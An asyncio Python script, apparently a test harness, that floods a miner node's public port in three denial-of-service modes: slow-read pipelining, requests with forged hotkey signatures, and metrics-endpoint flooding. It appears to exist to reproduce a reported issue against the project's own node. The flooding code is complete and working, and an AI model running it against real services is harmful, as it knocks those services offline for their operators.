#!/usr/bin/env python3
"""One host attacking a miner's public port, for scripts/floods.sh.

Standard library only (asyncio). Floods, as issue 12 describes them:
  slowread N   N connections, each pipelining 20,000 `GET /health` and never
               reading; a closed connection is reopened at once.
  forged N     N keep-alive connections sending well-formed requests that
               claim a valid hotkey with a signature nobody made, as fast as
               they are answered.
  metrics N    N keep-alive connections sending `GET /metrics` as fast as
               they are answered.
Usage: flood_attacker.py MODE N TARGET_IP:PORT SECONDS [SOURCE_IP]
Prints one JSON line: requests sent and answers by status.
"""
import asyncio
import json
import os
import socket
import sys
import time
import uuid

ALICE = "5GrwvaEF5zXb26Fz9rcQpDWS57CtERHpNehXCPcNoHGKutQY"
EMPTY_HASH = "a7ffc6f8bf1ed76651c14756a061d662f580ff4de43b49fa82d80a4b80f8434a"
BODY = (b'{"name":"ConversionSynapse","timeout":12.0,"total_size":0,"header_size":0,'
        b'"dendrite":{},"axon":{},"computed_body_hash":"","features":{"session_id":"s"}}')


def forged_signature():
    b = bytearray(os.urandom(64))
    b[63] = 0x80 | (b[63] & 0x0F)  # schnorrkel's marker bit, canonical scalar
    return "0x" + b.hex()


def forged_request(host):
    h = (f"POST /ConversionSynapse HTTP/1.1\r\nhost: {host}\r\n"
         f"content-type: application/json\r\ncontent-length: {len(BODY)}\r\n"
         "timeout: 12.0\r\nbt_header_dendrite_version: 10005000\r\n"
         f"bt_header_dendrite_nonce: {time.time_ns()}\r\n"
         f"bt_header_dendrite_uuid: {uuid.uuid1()}\r\n"
         f"bt_header_dendrite_hotkey: {ALICE}\r\n"
         f"bt_header_dendrite_signature: {forged_signature()}\r\n"
         f"computed_body_hash: {EMPTY_HASH}\r\n\r\n")
    return h.encode() + BODY


async def read_response(r):
    head = await r.readuntil(b"\r\n\r\n")
    status = int(head.split(b" ", 2)[1])
    n = 0
    for line in head.split(b"\r\n"):
        if line.lower().startswith(b"content-length:"):
            n = int(line.split(b":", 1)[1])
    if n:
        await r.readexactly(n)
    return status


async def connect(ip, port, src, rcvbuf=None):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.bind((src, 0))
    s.setblocking(False)
    await asyncio.get_running_loop().sock_connect(s, (ip, port))
    return await asyncio.open_connection(sock=s)


async def main():
    mode, n, target, secs = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    src = sys.argv[5] if len(sys.argv) > 5 else "127.0.0.2"
    ip, port = target.rsplit(":", 1)
    port = int(port)
    end = time.monotonic() + secs
    stats = {"sent": 0, "connects": 0, "status": {}}

    async def slowread(_):
        payload = b"GET /health HTTP/1.1\r\nhost: x\r\n\r\n" * 20000
        while time.monotonic() < end:
            try:
                r, w = await connect(ip, port, src, rcvbuf=4096)
                stats["connects"] += 1
                w.write(payload)
                stats["sent"] += 20000
                # Never read (asyncio buffers at most 128 KB, then stops
                # reading too); hold the connection until time is up.
                await asyncio.sleep(max(0.0, end - time.monotonic()))
                w.transport.abort()
            except Exception:
                await asyncio.sleep(0.05)

    async def loop_requests(make):
        while time.monotonic() < end:
            try:
                r, w = await connect(ip, port, src)
                stats["connects"] += 1
                while time.monotonic() < end:
                    w.write(make())
                    stats["sent"] += 1
                    st = await read_response(r)
                    stats["status"][st] = stats["status"].get(st, 0) + 1
                w.transport.abort()
            except Exception:
                await asyncio.sleep(0.05)

    host = f"{ip}:{port}"
    if mode == "slowread":
        jobs = [slowread(i) for i in range(n)]
    elif mode == "forged":
        jobs = [loop_requests(lambda: forged_request(host)) for _ in range(n)]
    elif mode == "metrics":
        req = f"GET /metrics HTTP/1.1\r\nhost: {host}\r\n\r\n".encode()
        jobs = [loop_requests(lambda: req) for _ in range(n)]
    else:
        sys.exit(f"unknown mode {mode}")
    await asyncio.wait_for(asyncio.gather(*jobs, return_exceptions=True), secs + 30)
    print(json.dumps(stats))


if __name__ == "__main__":
    asyncio.run(main())
